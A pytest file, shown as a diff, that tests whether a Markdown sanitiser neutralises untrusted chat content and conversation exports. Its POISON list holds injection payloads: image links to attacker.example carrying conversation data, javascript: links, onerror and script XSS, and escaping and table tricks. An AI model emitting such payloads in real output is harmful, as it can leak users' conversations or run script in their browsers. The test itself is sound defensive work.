@@ -1,0 +1,77 @@
+"""Untrusted text made inert for Markdown (ui.safe_text), read back by a CommonMark parser with
+GFM's tables and strikethrough: no image, link, autolink or HTML survives, code blocks and
+formatting do. (tests/e2e/test_untrusted_content.py checks the same in Chromium.)"""
+
+from __future__ import annotations
+
+import pytest
+from markdown_it import MarkdownIt
+
+from ui.conversation import to_markdown
+from ui.safe_text import plain, safe_markdown
+
+PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+ACTIVE = {"image", "link_open", "html_inline", "html_block"}
+POISON = [
+    "![x](http://attacker.example/?q=conversation)",
+    "![x][ref]\n\n[ref]: http://attacker.example/ref",
+    "[click](javascript:alert(1))",
+    "<http://attacker.example/autolink>",
+    '<img src="http://attacker.example/i" onerror="alert(1)">',
+    "<iframe src='http://attacker.example/f'></iframe>",
+    "<script>alert(1)</script>",
+    "\\![x](http://attacker.example/escaped-bang)",
+    "\\\\![x](http://attacker.example/double-backslash)",
+    "`code` ![x](http://attacker.example/after-code)",
+    "| a | b |\n|---|---|\n| `x | ![y](http://attacker.example/cell) ` |",
+    "1. item\n   ```\n   code\n![x](http://attacker.example/after-list-fence)",
+    "[^1]\n\n[^1]: ![x](http://attacker.example/footnote)",
+    "&lt;img src=x onerror=alert(1)&gt;",
+]
+
+
+def active(markdown: str) -> set[str]:
+    tokens = PARSER.parse(markdown)
+    return {t.type for block in tokens for t in [block, *(block.children or [])]} & ACTIVE
+
+
+@pytest.mark.parametrize("text", POISON)
+def test_nothing_active_survives(text: str) -> None:
+    assert active(safe_markdown(text)) == set()
+    assert active(plain(text)) == set()
+
+
+def test_formatting_and_code_blocks_are_kept() -> None:
+    answer = ("**Descale** the kettle monthly [1].\n\n- vinegar\n- water\n\n"
+              "```python\nitems[0] = '<b>'\n```\n")
+    safe = safe_markdown(answer)
+    assert "\n````````python\nitems[0] = '<b>'\n````````\n" in safe  # code, as it is
+    types = {t.type for t in PARSER.parse(safe)}
+    assert {"bullet_list_open", "fence"} <= types
+    rendered = PARSER.render(safe)
+    assert "<strong>Descale</strong>" in rendered and "[1]" in rendered
+
+
+def test_plain_text_shows_as_written() -> None:
+    title = "# 1. *Draft* <b>notes</b> | $5 ~x~ [a](b)"
+    rendered = PARSER.renderInline(plain(title))
+    assert rendered == "# 1. *Draft* &lt;b&gt;notes&lt;/b&gt; | $5 ~x~ [a](b)"
+    assert PARSER.render(plain("1. not a list\n- nor this")).count("<li>") == 0
+
+
+@pytest.mark.parametrize("context", ["{}", "- item\n{}", "> quote\n{}", "| a |\n|---|\n{}",
+                                     "**Answer**:\n\n{}\n\nafter"])
+def test_code_blocks_stay_code_in_any_context(context: str) -> None:
+    answer = ("Intro\n   ```\n   x[0]\n![x](http://attacker.example/a)\n"
+              "```js\nlet a = b < c;\n```\n~~~\nunclosed <img src=x>\n")
+    assert active(context.format(safe_markdown(answer))) == set()
+
+
+def test_the_export_is_inert() -> None:
+    poison = " ".join(POISON)
+    messages = [{"role": "user", "content": poison},
+                {"role": "assistant", "content": poison, "generator": "workers-ai",
+                 "model": "m", "notice": poison,
+                 "citations": [{"source": f"upload:{poison}.md", "title": poison,
+                                "text": poison, "page": None}]}]
+    assert active(to_markdown(messages)) == set()
